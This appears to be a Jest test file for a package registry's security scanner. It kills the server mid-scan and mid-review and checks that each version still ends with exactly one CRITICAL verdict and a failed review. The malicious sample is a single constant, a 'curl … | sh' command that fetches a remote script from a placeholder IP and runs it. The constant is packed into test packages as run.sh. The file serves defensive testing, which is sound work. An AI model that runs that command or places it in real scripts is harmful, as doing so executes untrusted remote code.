import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { describeByDayOn, shareOf } from '../contract/databases-by-day.js';
import { changeRows } from '../e2e/registry-server.js';
import { until } from '../until.js';
import { countsOf } from './harness/counts.js';
import { CrashingRegistry } from './harness/crashing-registry.js';
import { isBrokenConnection } from './harness/ledger.js';
import { pack, RegistryApi, type Packed } from './harness/registry-api.js';
import { between, rounds, wait } from './harness/rounds.js';
import { rowsOf } from './harness/stored.js';
import { pointsOf } from './points.js';

const VERSIONS = 6;
const ATTACK = 'curl -s http://203.0.113.9/x.sh | sh';

interface Judged {
  readonly semver: string;
  readonly state: string;
  readonly severity: string | null;
  readonly verdicts: string | number;
  readonly scans: string | number;
}

const JUDGED_SQL = `SELECT v.semver, v.state, v.severity,
  (SELECT COUNT(*) FROM registry_verdicts o WHERE o.version_id = v.id) AS verdicts,
  (SELECT COUNT(*) FROM registry_scans s WHERE s.version_id = v.id) AS scans FROM registry_versions v`;
const FINISHED_SQL = `SELECT state, verdict FROM review_runs WHERE type = 'security'`;
/** As if the minute of the lease were over, so that no test has to wait for it. */
const LEASES_OVER = ['registry_scans', 'review_jobs'].map(
  (table) => `UPDATE ${table} SET lease_until = '2020-01-01T00:00:00.000Z' WHERE state = 'running'`,
);

describeByDayOn('sqlite', 'a server that dies while it reviews', (database) => {
  let registry: CrashingRegistry;
  let api: RegistryApi;
  let patch = 0;
  const counts = countsOf(`K11 kill while scanning, ${database.label}`);

  beforeAll(async () => {
    registry = await CrashingRegistry.open(database, { env: { SVC_RATE_LIMITS: 'all=off' } });
    api = new RegistryApi(registry);
  });
  afterAll(() => registry.close());

  const begin = (fault?: string): Promise<void> =>
    registry.start({
      SVC_MODERATION: 'on',
      SVC_RATE_LIMITS: 'all=off',
      ...(fault !== undefined && { SVC_FAULT: fault }),
    });
  const beginAgain = async (): Promise<void> => {
    for (const statement of LEASES_OVER) await changeRows(registry.location, statement);
    await begin();
  };
  const next = (): Promise<Packed> => {
    patch += 1;
    const run = `#!/bin/sh\n# ${patch}\n${ATTACK}\n`;
    return pack('acme/scanned', `1.0.${patch}`, { 'run.sh': run });
  };
  /** `undefined` when the server died before it answered. */
  const send = async <T>(request: () => Promise<T>): Promise<T | undefined> => {
    try {
      return await request();
    } catch (error) {
      if (!isBrokenConnection(error)) throw error;
      return undefined;
    }
  };
  /** Every version has its one verdict. */
  const judge = async (versions: number): Promise<void> => {
    const seen = await until(async () => {
      const rows = await rowsOf<Judged>(registry.location, JUDGED_SQL);
      return rows.every(({ state }) => state !== 'pending') && rows;
    });
    expect(seen).toHaveLength(versions);
    for (const { semver, state, severity, verdicts, scans } of seen)
      expect({ semver, state, severity, verdicts: Number(verdicts), scans: Number(scans) }).toEqual(
        { semver, state: 'pass', severity: 'CRITICAL', verdicts: 1, scans: 1 },
      );
  };
  const review = async (archive: Uint8Array): Promise<number | undefined> => {
    const { origin, token } = registry;
    const response = await send(() =>
      fetch(`${origin}/experimental/review-runs?workspace=acme&kind=security&force=true`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/gzip' },
        body: Buffer.from(archive),
      }),
    );
    return response?.status;
  };

  const scanning = ['jobs.run-claimed', 'review.version-report-stored', 'jobs.work-done'];
  const ofScans = [...scanning, 'jobs.run-ended'];
  it.each(shareOf(ofScans, database))('at %s gives one verdict in the end', async (point) => {
    for (let round = 0; round < rounds(1, 30); round += 1) {
      const packed = await next();
      await registry.kill();
      await begin(point);
      await send(() => api.publish(packed.archive));
      await registry.died();
      counts.add('deaths');
      await beginAgain();
      expect(await api.publish(packed.archive)).toMatchObject({ body: { unchanged: true } });
      await judge(patch);
    }
  });

  it('at any moment leaves nothing pending', async () => {
    for (let round = 0; round < rounds(1, 30); round += 1) {
      await registry.kill();
      await begin();
      const packed = await Promise.all(Array.from({ length: VERSIONS }, next));
      const sent = Promise.all(packed.map(({ archive }) => send(() => api.publish(archive))));
      await wait(between(0, 1_500));
      await registry.kill();
      await sent;
      counts.add('kills');
      await beginAgain();
      for (const { archive } of packed) await api.publish(archive);
      await judge(patch);
    }
  });

  const reviewing = pointsOf('kill-while-scanning').filter(({ name }) => !scanning.includes(name));
  it.each(shareOf(reviewing, database))(
    'has a review either done or never begun: $name',
    async ({ name }) => {
      for (let round = 0; round < rounds(1, 10); round += 1) {
        const { archive } = await next();
        patch -= 1;
        const before = (await rowsOf(registry.location, FINISHED_SQL)).length;
        await registry.kill();
        await begin(name);
        await review(archive);
        await registry.died();
        await beginAgain();
        const rows = await until(async () => {
          const found = await rowsOf<Record<string, unknown>>(registry.location, FINISHED_SQL);
          return found.every(({ state }) => state === 'completed') && found;
        });
        expect(rows).toHaveLength(before + Number(name === 'review.report-stored'));
        expect(rows.every(({ verdict }) => verdict === 'fail')).toBe(true);
        expect(await review(archive)).toBe(201);
        await until(async () =>
          (await rowsOf<Record<string, unknown>>(registry.location, FINISHED_SQL)).every(
            ({ state }) => state === 'completed',
          ),
        );
      }
    },
  );
});
